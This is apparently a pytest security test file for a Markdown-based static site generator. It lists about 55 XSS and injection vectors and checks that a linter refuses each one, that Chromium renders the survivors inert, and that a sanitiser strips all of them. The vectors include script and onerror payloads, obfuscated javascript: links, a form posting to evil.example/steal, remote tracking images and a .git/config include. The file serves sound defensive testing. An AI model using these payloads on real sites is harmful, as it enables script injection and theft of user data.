"""Hostile input, measured. Each vector is a brief written to run script, load from elsewhere or leak
files. Either `check` refuses it, naming the file and line with a hint, or the site is built with it
and Debian's Chromium shows it inert: no dialog, no handler run (payloads set window.__pwned), no
request outside the origin, no navigation. Independently (defence in depth), the build's sanitiser
strips every vector from the HTML Python-Markdown makes of it, as if `check` had been bypassed."""
from __future__ import annotations

import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import markdown
import pytest
import yaml

from browser import chromium, record_outside_requests, serve
from conftest import REPO, check_json, minimal_brief

J = "window.__pwned=1"
HOSTILE_CODES = {"raw-html", "unsafe-link", "unsafe-attribute", "snippet-include", "external-media"}
# (name, where, payload): where is 'body' (after the key messages), 'end' (end of the file, for
# vectors that play with code fences) or a front-matter field.
VECTORS = [
    ("script", "body", f"<script>{J}</script>"),
    ("script-uppercase", "body", f"<SCRIPT>{J}</SCRIPT>"),
    ("script-tag-split-over-lines", "body", f"Text <script\nsrc=\"data:,{J}\"></script>"),
    ("img-onerror", "body", f'<img src="x" onerror="{J}">'),
    ("img-tag-split-over-lines", "body", f'Text <img\nsrc="x" onerror="{J}">'),
    ("img-slash-separators", "body", f'<img/src/onerror="{J}">'),
    ("svg-onload", "body", f'<svg onload="{J}">'),
    ("iframe-javascript", "body", f'<iframe src="javascript:{J}"></iframe>'),
    ("iframe-srcdoc", "body", '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'),
    ("object", "body", f'<object data="javascript:{J}"></object>'),
    ("embed", "body", f'<embed src="javascript:{J}">'),
    ("base-href", "body", '<base href="https://evil.example/">'),
    ("form-action", "body", '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>'),
    ("meta-refresh", "body", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("style-import", "body", "<style>@import url(https://evil.example/x.css);</style>"),
    ("link-stylesheet", "body", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("raw-anchor-javascript", "body", f'<a href="javascript:{J}">x</a>'),
    ("link-javascript", "body", f"[x](javascript:{J})"),
    ("link-javascript-mixed-case", "body", f"[x](JaVaScRiPt:{J})"),
    ("link-data", "body", "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)"),
    ("link-vbscript", "body", "[x](vbscript:msgbox(1))"),
    ("link-entity-decimal", "body", f"[x](&#106;avascript:{J})"),
    ("link-entity-hex", "body", f"[x](&#x6A;avascript:{J})"),
    ("link-entity-colon", "body", f"[x](javascript&colon;{J})"),
    ("link-tab-in-scheme", "body", f"[x](java\tscript:{J})"),
    ("link-entity-tab-in-scheme", "body", f"[x](java&#9;script:{J})"),
    ("link-control-char-in-scheme", "body", f"[x](java\x01script:{J})"),
    ("link-leading-spaces", "body", f"[x](  javascript:{J})"),
    ("link-angle-brackets", "body", f"[x](<javascript:{J}>)"),
    ("link-target-on-next-line", "body", f"[x](\njavascript:{J})"),
    ("reference-link", "body", f"[x][evil]\n\n[evil]: javascript:{J}"),
    ("reference-link-angle-and-title", "body", f'[x][evil]\n\n[evil]: <javascript:{J}> "a title"'),
    ("reference-target-on-next-line", "body", f"[x][evil]\n\n[evil]:\n  javascript:{J}"),
    ("autolink", "body", f"<javascript:{J}>"),
    ("attr-list-onclick", "body", f'A paragraph.\n{{onclick="{J}"}}'),
    ("attr-list-style-remote", "body", '### A heading {style="background:url(https://evil.example/p.gif)"}'),
    ("image-onerror-attr-list", "body", f'![x](nothing.png){{onerror="{J}"}}'),
    ("image-external", "body", "![x](https://evil.example/p.gif)"),
    ("image-protocol-relative", "body", "![x](//evil.example/p.gif)"),
    ("image-nested-brackets-external", "body", "![a [b] c](https://evil.example/p.gif)"),
    ("image-reference-external", "body", "![x][pixel]\n\n[pixel]: https://evil.example/p.gif"),
    ("md-in-html-onclick", "body", f'<div markdown="1" onclick="{J}">\ntext\n</div>'),
    ("html-in-list-continuation", "body", f'- item\n\n    <img src="x" onerror="{J}">'),
    ("html-between-escaped-backticks", "body", f'\\`<img src="x" onerror="{J}">\\`'),
    ("html-after-inline-triple-backticks", "end", f'```a```\n<img src="x" onerror="{J}">'),
    ("html-after-mismatched-fences", "end", f'~~~\n```\n~~~\n<img src="x" onerror="{J}">'),
    ("snippet-git-config", "body", '--8<-- ".git/config"'),
    ("comment-breakout", "body", f"<!--><script>{J}</script>-->"),
    ("comment-bang-close", "body", f"<!-- a --!><script>{J}</script> -->"),
    ("title-breakout", "title", f"</title><script>{J}</script>"),
    ("title-img-onerror", "title", f'<img src=x onerror="{J}">'),
    ("title-markdown-link", "title", f"[Click me](javascript:{J})"),
    ("summary-attribute-breakout", "summary", f'Plain words then "><script>{J}</script> and more'),
    ("summary-single-quote-breakout", "summary", f"Plain words then '><img src=x onerror='{J}'> and more"),
]
# Vectors that once slipped past `check` (found by this file); each is now refused with its line, and
# the sanitiser (test_sanitiser_*) still makes it inert if check were bypassed.
CLOSED_GAPS = {
    "link-target-on-next-line": "LINK_TARGET reads one line; Python-Markdown allows a newline after '('",
    "reference-target-on-next-line": "REF_DEF reads one line; Python-Markdown allows the target on the next",
    "image-reference-external": "only inline images are checked; a reference image may load from https://",
    "html-in-list-continuation": "_strip_code blanks every 4-space line as code, but in a list it is text",
    "html-between-escaped-backticks": r"INLINE_CODE treats \`...\` as a code span; Markdown shows literal backticks",
    "html-after-inline-triple-backticks": "FENCE toggles on '```a```', an inline code span, hiding later lines",
    "html-after-mismatched-fences": "a ``` line inside a ~~~ fence toggles the fence state",
}
BODY_MARK = "Many newcomers never reach an agency. Most do not know about services, or feel they do not need them."


def brief_for(name: str, where: str, payload: str) -> str:
    bid = f"hostile-{name}"
    if where in ("body", "end"):
        text = minimal_brief("en", bid=bid)
        if where == "end":
            return text + "\n" + payload + "\n"
        first = text.index(BODY_MARK) + len(BODY_MARK)  # the key messages' bullet
        return text[:first] + "\n\n" + payload + text[first:]
    return minimal_brief("en", bid=bid, **{where: json.dumps(payload)})


# The line check must name when it is not the payload's first: where the danger is.
NEEDLES = {"reference-link": "[evil]:", "reference-link-angle-and-title": "[evil]:", "attr-list-onclick": "{onclick"}


def payload_line(text: str, name: str, where: str, payload: str) -> int:
    needle = NEEDLES.get(name) or (payload.split("\n")[0] if where in ("body", "end") else f"{where}:")
    return next(i for i, line in enumerate(text.split("\n"), 1) if needle in line)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """One project holding every vector as its own brief, checked once and built once."""
    root = tmp_path_factory.mktemp("hostile") / "p"
    (root / "content" / "briefs").mkdir(parents=True)
    (root / "literature").mkdir()
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(REPO / "overrides", root / "overrides")
    shutil.copy(REPO / "literature" / "seeds.bib", root / "literature" / "seeds.bib")
    texts = {}
    for name, where, payload in VECTORS:
        texts[name] = brief_for(name, where, payload)
        (root / "content" / "briefs" / f"hostile-{name}.en.md").write_text(texts[name], encoding="utf-8")
    rc, data = check_json(root)
    from passerelle.build import build

    build(root)
    return root, texts, rc, data


def errors_for(data: dict, name: str) -> list[dict]:
    path = f"content/briefs/hostile-{name}.en.md"
    return [d for d in data["diagnostics"] if d["path"] == path and d["severity"] == "error"]


def accepted(hostile) -> list[str]:
    _, _, _, data = hostile
    return [name for name, _, _ in VECTORS if not errors_for(data, name)]


@pytest.mark.parametrize("name,where,payload", [v for v in VECTORS if v[0] not in CLOSED_GAPS],
                         ids=[v[0] for v in VECTORS if v[0] not in CLOSED_GAPS])
def test_refused_by_check_or_inert(hostile, name, where, payload):
    _, texts, rc, data = hostile
    errs = errors_for(data, name)
    if not errs:
        assert name in INERT_OK, f"{name}: accepted by check; add it to INERT_OK only once the browser test covers it"
        return  # proven inert in test_accepted_vectors_are_inert_in_chromium
    assert rc == 1
    line = payload_line(texts[name], name, where, payload)
    hits = [d for d in errs if d["code"] in HOSTILE_CODES]
    assert hits, f"{name}: refused, but not as hostile input: {[(d['line'], d['code']) for d in errs]}"
    assert any(d["line"] == line for d in hits), f"{name}: expected line {line}, got {[(d['line'], d['code']) for d in hits]}"
    assert all(d["hint"].strip() for d in hits)


# Accepted on purpose: front matter is text, never Markdown or HTML, and is escaped wherever it is
# shown; comments are removed before rendering; a tab breaks the scheme (Markdown expands it to spaces).
INERT_OK = {"title-breakout", "title-img-onerror", "title-markdown-link", "summary-attribute-breakout",
            "summary-single-quote-breakout", "comment-breakout", "comment-bang-close"}


@pytest.mark.parametrize("name", sorted(CLOSED_GAPS))
def test_closed_gaps_are_refused(hostile, name):
    assert errors_for(hostile[3], name), CLOSED_GAPS[name]


def test_accepted_vectors_are_inert_in_chromium(hostile):
    root, _, _, _ = hostile
    site = root / "site"
    names = accepted(hostile)
    assert set(names) >= INERT_OK
    urls = ["/", "/briefs/", "/fr/", "/fr/briefs/", "/audiences/frontline/"]
    for name in names:
        urls.append(f"/briefs/hostile-{name}/")
        urls.append(f"/fr/briefs/hostile-{name}/")  # the 'not translated' notice shows the title too
        urls += [f"/briefs/hostile-{name}/{a}/" for a in ("frontline", "managers", "funders")]
    missing = [u for u in urls if not (site / u.lstrip("/") / "index.html").exists()]
    assert not missing, missing
    dialogs: list[str] = []
    problems: list[str] = []
    with serve(site) as base, chromium() as browser:
        page = browser.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        outside = record_outside_requests(page, base)
        for url in urls:
            page.goto(base + url)
            page.wait_for_timeout(50)
            if page.url != base + url:
                problems.append(f"{url}: navigated to {page.url}")
            found = page.evaluate(INSPECT, urlsplit(base).netloc)
            problems += [f"{url}: {p}" for p in found]
    assert dialogs == [] and outside == [] and problems == [], (dialogs, outside, problems[:20])
    print(f"\nhostile: {len(VECTORS)} vectors, {len(VECTORS) - len(accepted(hostile))} refused by check, "
          f"{len(names)} built and inert in Chromium on {len(urls)} pages")


INSPECT = """host => {
  const out = [];
  if (window.__pwned !== undefined) out.push('a payload ran (window.__pwned is set)');
  const body = document.querySelector('article') || document.body;
  for (const el of body.querySelectorAll('*')) {
    for (const a of el.attributes) if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc') out.push(`${el.tagName} has ${a.name}`);
    if (/^(SCRIPT|IFRAME|OBJECT|EMBED|BASE|FORM|META|LINK|STYLE|SVG)$/i.test(el.tagName)) out.push(`${el.tagName} in the article`);
  }
  for (const a of body.querySelectorAll('a[href]')) {
    const u = new URL(a.href, location.href);
    if (!['http:', 'https:', 'mailto:'].includes(u.protocol)) out.push(`link with ${u.protocol} ${a.getAttribute('href')}`);
  }
  for (const i of body.querySelectorAll('img[src]')) if (new URL(i.src, location.href).host !== host) out.push(`remote image ${i.src}`);
  if (document.querySelectorAll('base').length) out.push('a <base> element');
  if (document.querySelectorAll('meta[http-equiv]').length) out.push('a <meta http-equiv>');
  if (document.querySelectorAll('title').length !== 1) out.push('the <title> was broken out of');
  if (document.querySelectorAll('meta[name=description]').length > 1) out.push('a second description');
  return out;
}"""


# --- defence in depth: the sanitiser alone --------------------------------------------------------------

DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "base", "form", "meta", "link", "style", "svg", "input",
                  "button", "frame", "frameset", "applet", "math", "template", "noscript"}


URL_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")  # what makes a URL absolute (WHATWG URL)


class _Danger(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            # as a browser reads a URL: outer spaces and controls dropped, tabs and newlines removed
            value = "".join(ch for ch in (value or "").strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r"
                                                                "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a"
                                                                "\x1b\x1c\x1d\x1e\x1f ") if ch not in "\t\n\r").lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "action"):
                self.found.append(f"{tag} {name}=")
            elif name in ("href", "src", "data", "xlink:href") and URL_SCHEME.match(value) \
                    and URL_SCHEME.match(value).group(1) not in ("http", "https", "mailto"):
                self.found.append(f"{tag} {name}={value[:30]}")
            elif tag == "img" and name == "src" and (value.startswith(("http:", "https:", "//"))):
                self.found.append(f"remote image {value[:30]}")


def danger(html: str) -> list[str]:
    parser = _Danger()
    parser.feed(html)
    parser.close()
    return parser.found


def as_markdown_html(where: str, payload: str) -> str:
    """What MkDocs' Markdown (the extensions in mkdocs.yml, plus fenced_code which MkDocs adds) makes
    of the payload, as if `check` had let it through. Front-matter text arrives escaped by render.esc."""
    from passerelle.markup import esc

    config = yaml.load((REPO / "mkdocs.yml").read_text(encoding="utf-8"), Loader=_IgnoreTags)
    extensions = [e if isinstance(e, str) else next(iter(e)) for e in config["markdown_extensions"]]
    source = payload if where in ("body", "end") else f"# {esc(payload)}\n\n{esc(payload)}"
    return markdown.markdown(source, extensions=extensions + ["fenced_code"])


class _IgnoreTags(yaml.SafeLoader):
    """mkdocs.yml uses !ENV tags; their values do not matter here."""


_IgnoreTags.add_constructor(None, lambda loader, node: None)


@pytest.mark.parametrize("name,where,payload", VECTORS, ids=[v[0] for v in VECTORS])
def test_sanitiser_strips_every_vector(name, where, payload):
    from passerelle.sitegen.hooks import sanitize

    clean = sanitize(as_markdown_html(where, payload))
    assert danger(clean) == [], clean


def test_markdown_alone_would_publish_most_vectors():
    """The sanitiser test can fail: without it, Python-Markdown passes most vectors through live."""
    live = [name for name, where, payload in VECTORS if danger(as_markdown_html(where, payload))]
    assert len(live) >= 30, live
